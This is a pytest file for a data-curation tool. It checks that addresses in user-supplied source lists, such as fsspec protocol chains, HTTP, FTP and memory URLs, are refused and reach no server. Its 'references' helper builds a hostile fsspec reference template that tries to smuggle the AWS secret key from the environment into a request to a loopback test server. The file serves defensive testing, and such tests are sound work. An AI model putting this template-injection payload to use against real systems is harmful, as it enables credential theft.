"""Rows of a list that somebody else wrote: what is not to be opened is a failed source, not contacted."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from curation.sources.identity import changed_since, identify
from curation.sources.listing import list_sources
from curation.sources.source import Source, SourcesError
from curation.store.address import MORE_PROTOCOLS, PROTOCOLS, AddressRefused
from tests import render
from tests.loopback import Loopback

SECRET = "AKIA-VERY-SECRET"


def references(server: str) -> bytes:
    """What puts a variable of the environment into an address, by fsspec's own templates."""
    leak = f"{server}/leak/{{{{u.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}}}"
    return json.dumps({"version": 1, "templates": {"u": "{{c}}"}, "refs": {"x.mp4": [leak]}}).encode()


def write_list(path: Path, addresses: list[str]) -> Path:
    if path.suffix == ".parquet":
        pq.write_table(pa.table({"path": addresses}), path)
    elif path.suffix == ".csv":
        path.write_text("path\n" + "".join(f"{a}\n" for a in addresses))
    else:
        path.write_text("".join(json.dumps({"path": a, "licence": "CC0"}) + "\n" for a in addresses))
    return path


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_a_row_reaches_no_server_and_no_variable(
    tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    (tmp_path / "a::b.mp4").write_bytes(b"video")
    server = Loopback({"/a.mp4": b"video", "/a.txt": b"words"})
    files = {"/refs.json": references(server.address)}
    with Loopback(files) as other, server:
        rows = [
            f"reference://x.mp4::{other.address}/refs.json",
            f"simplecache::{server.address}/a.mp4",
            f"{server.address}/a.mp4",
            "ftp://127.0.0.1/a.mp4",
            "memory://a.mp4",
        ]
        path = write_list(tmp_path / f"list{suffix}", ["a::b.mp4", *rows])
        found = {s.uri: s for s in identify(list_sources([str(path)]), {}, retries=0)}
    assert (server.got, other.got) == ([], [])
    assert found.pop(str(tmp_path / "a::b.mp4")).error is None
    assert found.keys() == set(rows)
    for uri, source in found.items():
        assert source.fingerprint is None
        assert source.error is not None
        kind, message = source.error
        assert kind == "AddressRefused"
        assert repr(uri.partition("://")[0].partition("::")[0]) in message
        assert all(protocol in message for protocol in PROTOCOLS)


def test_rows_of_a_remote_list_are_under_the_same_rule(tmp_path: Path) -> None:
    import fsspec

    with fsspec.open("memory://lists/l.csv", "wb") as file:
        file.write(b"path\na.mp4\ns3://bucket/a.mp4\n")
    found = {s.uri: s.error for s in list_sources(["memory://lists/l.csv"])}
    assert found["s3://bucket/a.mp4"] is None
    assert found["memory://lists/a.mp4"] is not None
    write_list(tmp_path / "l.csv", ["a::b.mp4"])
    (source,) = list_sources([f"{tmp_path.as_uri()}/l.csv"])
    assert source.error is not None  # fsspec would read a chain of protocols into it


def test_a_list_that_the_user_names_is_no_chain_and_may_have_colons_in_its_name(tmp_path: Path) -> None:
    write_list(tmp_path / "a::memory.csv", ["/videos/a.mp4"])
    assert [s.uri for s in list_sources([str(tmp_path / "a::memory.csv")])] == ["/videos/a.mp4"]
    with (
        Loopback({"/l.csv": b"path\n/videos/a.mp4\n"}) as server,
        pytest.raises(SourcesError, match="chain of protocols"),
    ):
        list_sources([f"simplecache::{server.address}/l.csv"])
    assert server.got == []


def test_the_addresses_of_a_dataset_s_own_tables_are_under_the_same_rule() -> None:
    with Loopback({"/a.mp4": b"video"}) as server:
        for uri in (f"{server.address}/a.mp4", f"reference://a.mp4::{server.address}/refs.json"):
            with pytest.raises(AddressRefused):
                changed_since(uri, 5, "", "fingerprint")
            (source,) = identify([Source(uri)], {}, retries=0)
            assert source.error is not None
            assert source.error[0] == "AddressRefused"
    assert server.got == []


def test_the_user_may_allow_more_protocols(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv(MORE_PROTOCOLS, "http")
    render.write_video(tmp_path / "a.mp4", render.scenes([10], (64, 48), fps=10), fps=10)
    with Loopback({"/a.mp4": (tmp_path / "a.mp4").read_bytes()}) as server:
        write_list(tmp_path / "l.csv", [f"{server.address}/a.mp4"])
        (source,) = list_sources([str(tmp_path / "l.csv")])
        assert source.error is None
